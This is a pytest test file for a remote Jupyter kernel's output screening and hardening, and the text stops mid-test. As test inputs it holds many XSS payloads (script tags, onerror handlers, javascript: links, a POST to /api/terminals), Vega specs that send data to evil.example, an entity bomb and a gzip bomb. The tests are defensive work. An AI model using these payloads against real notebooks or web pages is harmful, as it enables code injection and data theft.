"""The kernel trusts nothing from a session (issue 20): real kernels, the real pool, and a hostile pool.

Outputs lose active content unless the user allows it, while what a local ipykernel shows of safe
outputs (tables, Markdown, LaTeX, figures, plotly's JSON) arrives the same; what the kernel reads
is bounded; helper answers are checked; `%files` and `%download` stay safe with hostile names,
sizes and bodies; secrets stay where they belong.
"""
from __future__ import annotations

import asyncio
import base64
import gzip
import json
import os
import re
import signal
import subprocess
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from conftest import start_pool
from fake_pool import GUID, HostilePool, endless_body, execution
from fault_server import Exchange, FaultServer, Received, json_answer
from jupyter_client.manager import start_new_kernel
from kernel_support import collect, embedded_env, errors_of, kernel, pool_env, run, text_of, wait_for

from remote_kernel.kernel.helper import HELPER_MARK
from remote_kernel.sessions import AnswerTooLarge, SessionsClient, StaticToken

ACTIVE = """\
from IPython.display import display, Javascript, HTML, SVG, Markdown
display(Javascript('alert(document.cookie)'))
display(HTML('<img src=x onerror=alert(1)><script>fetch("/api/terminals",{method:"POST"})</script><b>kept</b>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(2)"><script>alert(3)</script>'
            '<rect width="10" height="10"/></svg>'))
display(Markdown('[x](javascript:alert(4)) <img src=y onerror=alert(5)> **bold**'))
"""
#: what would run in the page: a script element, an event handler attribute, a javascript: URL
ACTIVE_CODE = re.compile(r"<script|\son\w+\s*=|(?:href|src)\s*=\s*[\"']?\s*javascript:", re.I)

SAFE = """\
import pandas as pd, matplotlib.pyplot as plt
from IPython.display import display, Markdown, Latex, JSON, SVG
display(Markdown("**Markdown** with $x^2$ and a < b"))
display(Latex(r"$\\alpha^2 + \\beta$"))
display(JSON({"a": [1, 2]}))
display({"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "y": [1, 3, 2]}], "layout": {}},
         "text/plain": "Figure()"}, raw=True)
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle cx="10" cy="10" r="8"/></svg>'))
plt.figure(figsize=(2, 2)); plt.plot([1, 3, 2]); plt.show()
pd.DataFrame({"city": ["Lisbon", "Oslo"], "rain_mm": [774, 763]})
"""


def bundles(outputs: list[dict]) -> list[dict]:
    return [m["content"]["data"] for m in outputs if "data" in m["content"]]


def data_text(outputs: list[dict]) -> str:
    return json.dumps(bundles(outputs)).lower()


def mime_types(outputs: list[dict]) -> set[str]:
    return {mime for bundle in bundles(outputs) for mime in bundle}


def active_code(outputs: list[dict]) -> list[str]:
    return [match.group() for b in bundles(outputs) for v in b.values() for match in ACTIVE_CODE.finditer(str(v))]


def notices(outputs: list[dict]) -> list[str]:
    return [m["content"]["text"] for m in outputs
            if m["msg_type"] == "stream" and "active content was removed" in m["content"]["text"]]


@contextmanager
def local_kernel() -> Iterator:
    """A plain ipykernel (kernel name python3): what a local kernel shows, to compare with."""
    km, kc = start_new_kernel(kernel_name="python3", startup_timeout=60)
    try:
        yield km, kc
    finally:
        kc.stop_channels()
        km.shutdown_kernel(now=True)


@pytest.fixture(scope="module")
def remote(pool):
    with kernel(pool_env(pool, str(uuid.uuid4()))) as (km, kc):
        yield kc


# --- finding 1: active content -------------------------------------------------------------

def test_scripts_handlers_and_javascript_do_not_reach_the_front_end_by_default(remote):
    reply, outputs = run(remote, ACTIVE)
    assert reply["status"] == "ok", outputs
    found = data_text(outputs)
    assert "application/javascript" not in mime_types(outputs) and not active_code(outputs), found
    assert "<b>kept</b>" in found and "<rect" in found and "<strong>bold</strong>" in found
    assert len(notices(outputs)) == 1 and "%session active on" in notices(outputs)[0]
    _, again = run(remote, "from IPython.display import Javascript; Javascript('alert(6)')")
    assert not notices(again) and "application/javascript" not in mime_types(again)  # said once per session

    _, shown = run(remote, "%session active on\n%session")
    assert "allowed" in text_of(shown)
    try:
        _, allowed = run(remote, "Javascript('alert(7)')")
        assert [b.get("application/javascript") for b in bundles(allowed)] == ["alert(7)"]
    finally:
        run(remote, "%session active off")


def test_a_page_from_the_session_is_screened_as_a_display_is(remote):
    code = ("from IPython.core import page\n"
            "page.page({'text/plain': 'plain page', 'text/html': '<b>kept</b><script>alert(8)</script>'\n"
            "           '<img src=x onerror=alert(9)>'})")
    reply, outputs = run(remote, code)
    assert reply["status"] == "ok", outputs
    [page] = reply["payload"]
    assert page["source"] == "page" and page["data"]["text/plain"] == "plain page"
    html = page["data"]["text/html"]
    assert "<b>kept</b>" in html and "alert" not in html and "onerror" not in html


def test_safe_outputs_arrive_as_a_local_ipykernel_shows_them(remote):
    with local_kernel() as (_, local):
        run(local, "%matplotlib inline")
        local_reply, local_outputs = run(local, SAFE)
    reply, outputs = run(remote, SAFE)
    assert reply["status"] == local_reply["status"] == "ok", outputs
    assert not notices(outputs)

    def shape(outs: list[dict]) -> list[tuple[str, list[str]]]:
        return [(m["msg_type"], sorted(m["content"]["data"])) for m in outs if "data" in m["content"]]

    assert shape(outputs) == shape(local_outputs)
    for mime in ("text/markdown", "text/latex", "application/json", "application/vnd.plotly.v1+json",
                 "image/svg+xml"):
        assert [b[mime] for b in bundles(outputs) if mime in b] == [b[mime] for b in bundles(local_outputs)
                                                                   if mime in b], mime
    table = bundles(outputs)[-1]["text/html"]
    assert 'class="dataframe"' in table and "<td>Lisbon</td>" in table and "<style" in table


def test_active_content_setting_lets_scripts_through_for_that_kernel(pool):
    with kernel(pool_env(pool, str(uuid.uuid4()), REMOTE_KERNEL_ACTIVE_CONTENT="1")) as (_, kc):
        _, outputs = run(kc, ACTIVE)
        assert not notices(outputs)
        assert "application/javascript" in mime_types(outputs) and active_code(outputs)


def hostile_env(url: str, **extra: str) -> dict[str, str]:
    return {**embedded_env(), "POOL_MANAGEMENT_ENDPOINT": url, "REMOTE_KERNEL_TOKEN": "t",
            "REMOTE_KERNEL_RICH": "0", "REMOTE_KERNEL_IDENTIFIER": str(uuid.uuid4()), **extra}


@pytest.mark.parametrize("fmt, content, forbidden", [
    ("svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="4" height="4"/></svg>', "image/svg"),
    ("html", b"<img src=x onerror=alert(1)>", "image/html"),
])
def test_image_results_get_only_image_types_without_scripts(fmt, content, forbidden):
    image = {"type": "image", "format": fmt, "base64_data": base64.b64encode(content).decode()}
    with HostilePool({("POST", "/executions"): execution(result=image)}) as fake:
        with kernel(hostile_env(fake.url)) as (_, kc):
            _, outputs = run(kc, "plt.show()")
    found = data_text(outputs)
    assert forbidden not in mime_types(outputs) and not active_code(outputs), found
    assert all(not k.startswith("image/") or k in ("image/png", "image/jpeg", "image/svg+xml")
               for b in bundles(outputs) for k in b)
    if fmt == "svg":
        assert "<rect" in found


# --- finding 4: bounded reads --------------------------------------------------------------

def peak_memory_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM in /proc/<pid>/status")


def test_a_gzip_bomb_answer_stops_at_the_cap_and_the_kernel_stays_small():
    body = json.dumps({"id": "e", "status": "Succeeded", "result": {"stdout": "", "stderr": "",
                                                                    "executionResult": ""}}).encode()
    bomb = gzip.compress(body[:-3] + b" " * (300 << 20) + body[-3:], compresslevel=9)  # ~300 KB → 300 MB

    async def handler(request: Received, exchange: Exchange) -> None:
        await exchange.respond(200, bomb, {"Content-Type": "application/json", "Content-Encoding": "gzip",
                                           "x-ms-session-guid": GUID})

    with HostilePool({("POST", "/executions"): handler}) as fake:
        with kernel(hostile_env(fake.url)) as (km, kc):
            reply, outputs = run(kc, "print(1)")
            peak = peak_memory_mib(km.provisioner.process.pid)
            _, after = run(kc, "%session")  # still answering
    assert reply["status"] == "error" and reply["ename"] == "AnswerTooLarge", reply
    assert "64 MiB" in reply["evalue"]
    assert "identifier" in text_of(after)
    assert peak < 500, f"the kernel grew to {peak:.0f} MiB reading a 300 MB answer"  # unbounded: > 1 GB


def test_an_answer_that_trickles_in_trips_the_overall_deadline():
    async def trickle(request: Received, exchange: Exchange) -> None:
        await exchange.read_body()
        exchange.writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
        while True:
            exchange.writer.write(b" ")
            await exchange.writer.drain()
            await asyncio.sleep(0.05)

    async def main() -> None:
        async with FaultServer(trickle) as server:
            client = SessionsClient(server.url, "id-1", auth=StaticToken("t"), timeout=1)
            client.execution_margin = 1.0
            try:
                with pytest.raises(AnswerTooLarge, match="did not arrive whole in time"):
                    await asyncio.wait_for(client.execute("1"), 60)  # the test's own guard only
            finally:
                await client.aclose()

    asyncio.run(main())


def test_download_stops_at_the_limit_with_an_error_naming_the_setting(tmp_path):
    routes = {("GET", "/files/endless.bin/content"): endless_body()}
    with HostilePool(routes) as fake:
        with kernel(hostile_env(fake.url, REMOTE_KERNEL_DOWNLOAD_LIMIT="2M"), cwd=str(tmp_path)) as (_, kc):
            reply, outputs = run(kc, "%download endless.bin")
    assert reply["status"] == "error" and reply["ename"] == "DownloadTooLarge", reply
    assert "REMOTE_KERNEL_DOWNLOAD_LIMIT" in reply["evalue"] and "2.0 MiB" in reply["evalue"]
    assert list(tmp_path.iterdir()) == []  # no file, no .part left behind


def test_a_rich_output_file_past_its_cap_loses_the_outputs_with_a_note_and_keeps_the_text():
    """A hostile pool answers the shim's install, marks an output and serves an endless outputs file."""
    state: dict[str, str] = {}

    async def handler(request: Received, exchange: Exchange) -> None:
        if request.method == "POST" and request.path == "/executions":
            code = json.loads(await exchange.read_body())["code"]
            # the install on its own, or riding with the first cell (its answer is then the first line)
            nonce = re.search(r"install\((?:get_ipython\(\)|shell), \\?'([0-9a-f]{8})\\?'", code)
            answer = ""
            if nonce:
                state["nonce"] = nonce.group(1)
                answer = HELPER_MARK + '{"ok": true}\n'
                if "cell_digest" not in code:
                    return await execution(stdout=answer)(request, exchange)
            await execution(stdout=f"{answer}before\x1erk{state['nonce']}:1:0\x1eafter\n")(request, exchange)
        elif request.path == f"/files/{state.get('nonce')}-1.jsonl/content":
            await endless_body(b'{"type": "display", "data": {"text/plain": "' + b"x" * 65000 + b'"}}\n')(
                request, exchange)
        else:
            await json_answer(404, {"error": {"code": "NotFound", "message": "no"}})(request, exchange)

    env = {**hostile_env("http://127.0.0.1:1"), "REMOTE_KERNEL_RICH": "1"}
    with HostilePool({}) as fake:
        fake.routes = _Everything(handler)
        with kernel({**env, "POOL_MANAGEMENT_ENDPOINT": fake.url}) as (km, kc):
            reply, outputs = run(kc, "display('x' * 10**9)")
            peak = peak_memory_mib(km.provisioner.process.pid)
    assert reply["status"] == "ok" and text_of(outputs, "stdout") == "beforeafter\n", outputs
    assert "could not be fetched" in text_of(outputs, "stderr") and "64 MiB" not in text_of(outputs, "stdout")
    assert peak < 500, f"the kernel grew to {peak:.0f} MiB fetching an endless outputs file"


class _Everything(dict):
    """Routes that send every request to one handler."""

    def __init__(self, handler) -> None:
        super().__init__()
        self.handler = handler

    def get(self, key, default=None):
        return self.handler


# --- finding 5: helper answers -------------------------------------------------------------

def complete(kc, code: str) -> dict:
    msg_id = kc.complete(code, len(code))
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        reply = kc.get_shell_msg(timeout=60)
        if reply["parent_header"].get("msg_id") == msg_id:
            return reply["content"]
    raise AssertionError("no complete_reply")


def inspect(kc, code: str) -> dict:
    msg_id = kc.inspect(code, len(code))
    reply = kc.get_shell_msg(timeout=60)
    while reply["parent_header"].get("msg_id") != msg_id:
        reply = kc.get_shell_msg(timeout=60)
    return reply["content"]


def test_a_hook_that_prints_the_helper_marker_does_not_silence_completion(remote):
    hook = (f"def _noisy(*a):\n    print({HELPER_MARK!r} + '\"not an answer\"')\n"
            "get_ipython().events.register('pre_execute', _noisy)\nvariable_for_completion = 1")
    run(remote, hook)
    try:
        assert "variable_for_completion" in complete(remote, "variable_for_comp")["matches"]
        assert inspect(remote, "variable_for_completion")["status"] == "ok"
    finally:
        run(remote, "get_ipython().events.unregister('pre_execute', _noisy)")


def test_garbage_helper_answers_still_get_a_checked_reply():
    garbage = {"matches": [1, None, {"x": 1}, "ok_match"], "cursor_start": -50, "cursor_end": 10**12}
    answers = iter([garbage, {"matches": ["fine"], "cursor_start": 0, "cursor_end": 3},
                    {"found": True, "data": {"text/html": "<img src=x onerror=alert(1)>doc", "text/plain": "doc"}},
                    [1, 2], {"matches": ["m" * 1000] * 1500, "cursor_start": 0, "cursor_end": 3}])  # 1.5 MB

    async def helper(request: Received, exchange: Exchange) -> None:
        stdout = HELPER_MARK + json.dumps(next(answers)) + "\n"
        await execution(stdout=stdout)(request, exchange)

    with HostilePool({("POST", "/executions"): helper}) as fake:
        with kernel(hostile_env(fake.url)) as (_, kc):
            first, second = complete(kc, "abc"), complete(kc, "abc")
            inspected, listed = inspect(kc, "abc"), inspect(kc, "abc")
            oversized = complete(kc, "abc")
    assert first == {"status": "ok", "matches": [], "cursor_start": 3, "cursor_end": 3, "metadata": {}}
    assert second["matches"] == ["fine"] and (second["cursor_start"], second["cursor_end"]) == (0, 3)
    assert inspected["found"] and not ACTIVE_CODE.search(json.dumps(inspected["data"]))
    assert "doc" in inspected["data"]["text/html"]
    assert listed == {"status": "ok", "found": False, "data": {}, "metadata": {}}
    assert oversized["matches"] == []  # over the 1 MiB cap on helper answers: not read


# --- finding 6: %files ---------------------------------------------------------------------

def listing(entries: list[dict], next_link: str | None = None):
    return json_answer(200, {"value": entries, **({"nextLink": next_link} if next_link else {})})


def test_files_table_shows_hostile_names_and_sizes_safely():
    entries = [{"name": "a\x1b[31mred\nb.txt    1 KiB  2020-01-01", "type": "file", "sizeInBytes": 10**30},
               {"name": "neg.txt", "type": "file", "sizeInBytes": -5},
               {"name": "ok.txt", "type": "file", "sizeInBytes": 2048}]
    with HostilePool({("GET", "/files"): listing(entries)}) as fake:
        with kernel(hostile_env(fake.url)) as (_, kc):
            _, outputs = run(kc, "%files")
    text = bundles(outputs)[0]["text/plain"]
    assert "\x1b" not in text and len(text.splitlines()) == 2 + 3, text
    assert "\\x1b[31mred\\nb.txt" in text
    sizes = {line.split()[0]: line.split()[1] for line in text.splitlines()[2:]}
    assert sizes["neg.txt"] == "?" and sizes["ok.txt"] == "2.0" and "1000000" not in text


def test_files_paging_stops_at_a_revisited_next_link():
    with HostilePool({}) as fake:
        fake.routes[("GET", "/files")] = listing([{"name": "x", "type": "file", "sizeInBytes": 1}],
                                                 f"{fake.url}/files?skip=1")
        with kernel(hostile_env(fake.url)) as (_, kc):
            reply, _ = run(kc, "%files")
        pages = len(fake.requests)
    assert reply["status"] == "error" and "already read" in reply["evalue"], reply
    assert pages <= 3


# --- finding 7: secrets --------------------------------------------------------------------

def test_embedded_pool_gets_no_cloud_secret_and_a_killed_kernel_leaves_no_log(tmp_path):
    temp = tmp_path / "tmp"  # the kernel's and its pool's own temp folder: what they leave there is theirs
    temp.mkdir()
    env = {**embedded_env(), "AZURE_CLIENT_SECRET": "s3cret-value", "SOME_API_KEY": "k3y", "TMPDIR": str(temp)}
    with kernel(env) as (km, kc):
        reply, outputs = run(kc, "print('up')")
        assert text_of(outputs) == "up\n"
        kernel_pid = km.provisioner.process.pid
        children = subprocess.run(["pgrep", "-P", str(kernel_pid)], capture_output=True, text=True).stdout.split()
        pools = [pid for pid in children if b"pool" in Path(f"/proc/{pid}/cmdline").read_bytes()]
        assert pools, children
        environ = Path(f"/proc/{pools[0]}/environ").read_bytes()
        assert b"s3cret-value" not in environ and b"k3y" not in environ and b"REMOTE_KERNEL_TOKEN=" in environ
        os.kill(kernel_pid, signal.SIGKILL)  # no clean-up runs
        wait_for(lambda: not Path(f"/proc/{pools[0]}").exists(), 30, what="the orphaned pool to stop")
    wait_for(lambda: not list(temp.iterdir()), 60, what=f"an empty temp folder (left: {list(temp.iterdir())})")


def test_session_and_errors_show_the_endpoint_without_credentials(pool):
    endpoint = pool.endpoint.replace("http://", "http://alice:hunter2@")
    env = pool_env(pool, str(uuid.uuid4()), POOL_MANAGEMENT_ENDPOINT=endpoint)
    with kernel(env) as (_, kc):
        _, shown = run(kc, "%session")
        _, cell = run(kc, "1 + 1")
    everything = json.dumps([m["content"] for m in shown + cell])
    assert "hunter2" not in everything and "alice" not in everything
    assert pool.endpoint.split("//")[1] in text_of(shown)


def test_standalone_pool_takes_its_token_from_the_environment_or_a_file(pool, tmp_path):
    assert pool.token.encode() not in Path(f"/proc/{pool.process.pid}/cmdline").read_bytes()
    token_file = tmp_path / "token"
    token_file.write_text("from-a-file\n")
    other = start_pool("--ready-sessions", "0", f"--token-file={token_file}", token="ignored-env-token")
    try:
        assert b"from-a-file" not in Path(f"/proc/{other.process.pid}/cmdline").read_bytes()
        ok = httpx.get(f"{other.endpoint}/session", headers={"Authorization": "Bearer from-a-file"},
                       params={"api-version": "2025-10-02-preview", "identifier": "abcd"}, timeout=30)
        refused = httpx.get(f"{other.endpoint}/session", headers={"Authorization": "Bearer ignored-env-token"},
                            params={"api-version": "2025-10-02-preview", "identifier": "abcd"}, timeout=30)
        assert ok.status_code != 401 and refused.status_code == 401
    finally:
        other.stop()


# --- finding 8: smaller ---------------------------------------------------------------------

def test_download_of_a_folder_fetches_it_and_an_overlong_local_name_is_a_usage_error(remote, tmp_path):
    run(remote, "import os; os.makedirs('/mnt/data/folder', exist_ok=True); open('/mnt/data/folder/f.txt', 'w').write('x')")
    reply, _ = run(remote, f"%download folder {tmp_path / 'got'}")  # a folder is fetched whole, not "no such file"
    assert reply["status"] == "ok" and (tmp_path / "got" / "f.txt").read_text() == "x"
    (tmp_path / "got" / "f.txt").unlink()
    (tmp_path / "got").rmdir()
    reply, _ = run(remote, f"%download folder/f.txt {tmp_path / ('n' * 300)}")
    assert reply["status"] == "error" and reply["ename"] == "UsageError" and "at most 255 bytes" in reply["evalue"]
    assert list(tmp_path.iterdir()) == []


# --- the screening rules, without a kernel ---------------------------------------------------

def test_html_cleaning_keeps_styled_tables_and_removes_everything_that_runs():
    import pandas as pd

    from remote_kernel.kernel.trust import screen_bundle

    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "<y>"]})
    styled = frame.style.highlight_max(color="yellow", subset=["a"]).format(escape="html").to_html()
    for html in (frame._repr_html_(), styled):
        kept, lost = screen_bundle({"text/html": html})
        assert lost == [] and "<table" in kept["text/html"] and "<style" in kept["text/html"]
    assert 'id="T_' in screen_bundle({"text/html": styled})[0]["text/html"]  # the Styler's CSS still applies
    hostile = ('<a href="javascript:alert(1)">a</a><iframe src="https://x"></iframe><form action="/x"><input></form>'
               '<img src="data:text/html,<script>alert(1)</script>"><svg onload=alert(1)></svg>'
               '<div style="color:red" onclick="alert(1)">d</div><meta http-equiv="refresh" content="0;url=/x">')
    kept, lost = screen_bundle({"text/html": hostile})
    assert lost == ["text/html"]
    assert not ACTIVE_CODE.search(kept["text/html"]) and not re.search(r"<(iframe|form|svg|meta)|data:text",
                                                                        kept["text/html"])
    assert '<div style="color:red">d</div>' in kept["text/html"]


@pytest.mark.parametrize("markdown, stays", [
    ("**bold** $x^2$ and a < b, [docs](https://jupyter.org), [here](notes/a.md), [top](#top)", True),
    ("[x](javascript:alert(1))", False), ("[x]( JaVaScRiPt:alert(1))", False), ("[x](\x01javascript:1)", False),
    ("[a]: javascript:alert(1)\n\n[b][a]", False), ("[x](&#106;avascript:1)", False),
    ("<img src=x onerror=alert(1)>", False), ("<javascript:alert(1)>", False), ("[x](data:text/html,1)", False),
])
def test_markdown_stays_as_written_only_without_html_or_script_links(markdown, stays):
    from remote_kernel.kernel.trust import screen_bundle

    kept, lost = screen_bundle({"text/markdown": markdown})
    assert (kept == {"text/markdown": markdown} and lost == []) if stays else (
        lost == ["text/markdown"] and not ACTIVE_CODE.search(kept["text/html"]))


def commonmark_readings(markdown: str) -> list[str]:
    """The HTML two CommonMark readers make of the text, with their own link checks off (a front end's may differ)."""
    import mistune
    from markdown_it import MarkdownIt

    permissive = MarkdownIt("commonmark", {"html": True})
    permissive.validateLink = lambda url: True
    loose = mistune.create_markdown(renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True))
    return [permissive.render(markdown), str(loose(markdown))]


def active_in_rendering(rendered: str) -> list[str]:
    """What would run in rendered HTML, read by a real HTML parser: script-like elements, handlers, script links."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in ("script", "iframe", "object", "embed", "svg", "math"):
                found.append(tag)
            for name, value in attrs:
                url = re.sub(r"[\t\n\r]", "", value or "").strip("".join(map(chr, range(33)))).lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", url)
                if name.startswith("on") or (name in ("href", "src") and scheme and scheme.group(1) not in (
                        "http", "https", "mailto") and not url.startswith("data:image/png")):
                    found.append(f"{tag} {name}={value}")

    reader = Reader(convert_charrefs=True)
    reader.feed(rendered)
    reader.close()
    return found


SAFE_MARKDOWN = ["**bold** $x^2$ and a < b, [docs](https://jupyter.org), [here](notes/a.md), [top](#top)",
                 "Note: at 10:30 the data: 5 rows; ![dot](data:image/png;base64,iVBORw0KGgo=)\n\n"
                 "> [ref]: https://x.org\n\n[x][ref] &copy; <https://jupyter.org>",
                 "> Note: quoted (see: below), e.g.: this; [a list](#top): fine\n>\n> - todo: item",
                 "- item with [a link](https://jupyter.org \"title\")\n- `code <b>` stays code? no: a tag in a code span"]


def test_markdown_without_html_or_script_links_stays_as_written():
    from remote_kernel.kernel.trust import screen_bundle

    for markdown in SAFE_MARKDOWN[:3]:
        assert screen_bundle({"text/markdown": markdown}) == ({"text/markdown": markdown}, [])


HOSTILE_MARKDOWN = [
    "[x](javascript:alert(1))", "[x]( JaVaScRiPt:alert(1))", "[x](\x01javascript:1)", "[x](javascript\\:alert(1))",
    "[a]: javascript:alert(1)\n\n[b][a]", "[x](&#106;avascript:1)", "[x](data:text/html,1)",
    "<img src=x onerror=alert(1)>", "<javascript:alert(1)>", "<VBScript:msgbox(1)>",
    # finding 10: the definition inside a blockquote, a list item, indented, split over lines, tricked
    "> [r]: javascript:alert(1)\n\n[x][r]", "- [r]: javascript:alert(1)\n\n[x][]\n\n[r]",
    "   [r]: javascript:alert(1)\n\n[r][]", "> - [r]:\n>   JaVaScRiPt:alert(1)\n\n[x][r]",
    "> [r]:\n> javascript:alert(1)\n\n[x][r]", "1. a\n\n   [r]: <javascript:alert(1)>\n\n[x][r]",
    "> [r]: vbscript:msgbox(1)\n\n[x][r]", "> [r]: &#x6A;avascript:alert(1)\n\n[x][r]",
    "> [r]: java&#x09;script:alert(1)\n\n[x][r]", "> [r]: data:text/html;base64,PHNjcmlwdD4=\n\n[x][r]",
    "> > [r]: \tjavascript:alert(1) 'title'\n\n[x][r]",
    "<details open ontoggle=alert(1)>", "a <a href='javascript:1'>b</a>", "<!-- x --><script>alert(1)</script>",
]


@pytest.mark.parametrize("markdown", HOSTILE_MARKDOWN)
def test_markdown_that_a_reader_would_turn_into_script_is_made_inert(markdown):
    from remote_kernel.kernel.trust import screen_bundle

    kept, lost = screen_bundle({"text/markdown": markdown})
    assert lost == ["text/markdown"], kept
    renderings = [kept["text/html"]] if "text/html" in kept else commonmark_readings(kept["text/markdown"])
    for rendered in renderings:
        assert not active_in_rendering(rendered), (markdown, kept, rendered)


def test_svg_keeps_a_clean_picture_byte_for_byte_and_refuses_entities():
    import io

    import matplotlib
    import matplotlib.pyplot as plt

    from remote_kernel.kernel.trust import clean_svg

    matplotlib.use("Agg")
    figure = plt.figure()
    plt.plot([1, 3, 2])
    buffer = io.StringIO()
    figure.savefig(buffer, format="svg")
    plt.close(figure)
    assert clean_svg(buffer.getvalue()) == buffer.getvalue()
    bomb = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>'
    assert clean_svg(bomb) is None
    linked = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
              '<a xlink:href="javascript:alert(1)"><text>t</text></a><foreignObject><div/></foreignObject>'
              '<set attributeName="onmouseover" to="alert(1)"/><use href="#x"/></svg>')
    cleaned = clean_svg(linked)
    assert "javascript" not in cleaned and "foreignObject" not in cleaned and "set" not in cleaned
    assert 'href="#x"' in cleaned and "<text>t</text>" in cleaned.replace("svg:", "")


def test_endpoints_are_shown_without_credentials():
    from remote_kernel.kernel.config import KernelConfig
    from remote_kernel.sessions.auth import redacted_url

    assert redacted_url("https://alice:hunter2@x.io/pools/p?sig=abc&api-version=1") == \
        "https://x.io/pools/p?sig=REDACTED&api-version=1"
    settings = KernelConfig.from_env({"POOL_MANAGEMENT_ENDPOINT": "https://alice:hunter2@x.io/pools/p"})
    assert "hunter2" not in str(settings.describe()) and "x.io/pools/p" in str(settings.describe())
    broken = KernelConfig.from_env({"POOL_MANAGEMENT_ENDPOINT": "ftp://alice:hunter2@x"})
    assert broken.problems and "hunter2" not in str(broken.problems)


# --- issue 23 (findings 1, 3, 11) and issue 25 (item 5): the screen, without a kernel ------------

#: what Altair 5 writes for a chart with inline data (alt.Chart(df).mark_bar().encode(...) with a
#: selection parameter and a tooltip): `datasets` + `data.name`, config, params, encoding
ALTAIR_SPEC = {
    "config": {"view": {"continuousWidth": 300, "continuousHeight": 300}},
    "data": {"name": "data-4b6a0dcc0e2f3f6f1d5e2e4f4d6f3f6f"},
    "mark": {"type": "bar", "tooltip": True},
    "encoding": {"x": {"field": "city", "type": "nominal", "title": "City < 5 km"},
                 "y": {"field": "rain_mm", "type": "quantitative"},
                 "color": {"condition": {"param": "param_1", "value": "steelblue"}, "value": "lightgray"}},
    "params": [{"name": "param_1", "select": {"type": "point", "fields": ["city"]}, "bind": "legend"}],
    "transform": [{"calculate": "datum.rain_mm / 10", "as": "rain_cm"}],
    "title": "Rain <= 800 mm", "description": "Yearly rain",
    "$schema": "https://vega.github.io/schema/vega-lite/v5.20.1.json",
    "datasets": {"data-4b6a0dcc0e2f3f6f1d5e2e4f4d6f3f6f": [
        {"city": "Lisbon", "rain_mm": 774, "url": "https://example.org/lisbon", "note": "a < b"},
        {"city": "Oslo", "rain_mm": 763, "url": "/api/contents", "note": "<= 5"}]},
}
VEGA_TYPES = ["application/vnd.vegalite.v5+json", "application/vnd.vegalite.v4+json",
              "application/vnd.vegalite.v6+json", "application/vnd.vega.v5+json", "application/vnd.vega.v6+json"]
_TAG_START = re.compile(r"<[A-Za-z/!?]")


def vega_sinks(node, data: bool = False, key: str = "") -> list[str]:
    """URL, link, loader and page-binding keys outside inline data, and strings that could open a tag."""
    found: list[str] = []
    if isinstance(node, str):
        return [node] if _TAG_START.search(node) else []
    if isinstance(node, list):
        return [f for item in node for f in vega_sinks(item, data, key)]
    if isinstance(node, dict):
        for name, value in node.items():
            if _TAG_START.search(name):
                found.append(name)
            if not data and (name in ("url", "href", "loader", "sourceHeader", "sourceFooter", "editorUrl",
                                      "defaultStyle") or (key == "bind" and name == "element")):
                found.append(name)
            found += vega_sinks(value, data or name in ("values", "datasets"), name)
    return found


HOSTILE_VEGA = [
    {"data": {"url": "/api/contents?content=1"}, "mark": "point"},
    {"data": {"values": [{"a": 1}]}, "mark": "image",
     "encoding": {"url": {"field": "a", "type": "nominal"}, "href": {"value": "javascript:alert(1)"}}},
    {"layer": [{"data": {"url": "notes.csv"}, "mark": {"type": "image", "url": "https://evil.example/x.png",
                                                         "href": "https://evil.example"}}]},
    {"data": [{"name": "t", "url": {"signal": "'/api/contents?x=' + now()"}}],
     "signals": [{"name": "u", "update": "'https://evil.example/?' + data('t')",
                  "bind": {"input": "text", "element": "#jp-top-panel"}}],
     "marks": [{"type": "image", "encode": {"update": {"url": {"signal": "u"}}}}]},
    {"description": "</code><img src=x onerror=alert(1)>", "title": {"text": "<script>alert(1)</script>"},
     "data": {"values": [{"<img src=x onerror=alert(2)>": 1}]}, "mark": "bar",
     "usermeta": {"embedOptions": {"sourceHeader": "<script>alert(3)</script>", "actions": True,
                                   "loader": {"baseURL": "/api/"}, "editorUrl": "javascript:alert(4)"}}},
    {"transform": [{"lookup": "a", "from": {"data": {"url": "/files/secret.json"}, "key": "a"}}], "mark": "bar",
     "config": {"mark": {"href": "javascript:alert(1)"}}},
]


@pytest.mark.parametrize("mime", VEGA_TYPES)
@pytest.mark.parametrize("spec", HOSTILE_VEGA)
def test_vega_specs_lose_urls_links_page_bindings_and_html(spec, mime):
    from remote_kernel.kernel.trust import screen_bundle

    assert vega_sinks(spec)  # the case is hostile
    kept, lost = screen_bundle({mime: spec, "text/plain": "chart"})
    assert lost == [mime] and kept["text/plain"] == "chart"
    assert mime not in kept or not vega_sinks(kept[mime]), kept


def test_vega_embed_options_keep_only_what_cannot_inject_and_an_altair_chart_passes_unchanged():
    from remote_kernel.kernel.trust import OutputGuard, screen_bundle

    for mime in VEGA_TYPES:
        kept, lost = screen_bundle({mime: ALTAIR_SPEC, "text/plain": "alt.Chart(...)"})
        assert lost == [] and kept[mime] == ALTAIR_SPEC, mime
    content = {"data": {VEGA_TYPES[0]: ALTAIR_SPEC}, "metadata": {VEGA_TYPES[0]: {"embed_options": {
        "actions": {"export": True, "source": False}, "theme": "dark", "renderer": "svg"}}}}
    assert OutputGuard().screen("display_data", content) == (content, None)

    mime = "application/vnd.vegalite.v5+json"
    hostile = {"sourceFooter": "<script>alert(1)</script>", "sourceHeader": "<img src=x onerror=alert(2)>",
               "defaultStyle": "body{display:none}", "loader": {"baseURL": "/api/"}, "actions": True,
               "editorUrl": "javascript:alert(3)", "i18n": {"SOURCE_ACTION": "<b>x</b>"}, "theme": "dark"}
    for metadata in ({mime: {"embed_options": hostile}}, {"embed_options": hostile}):
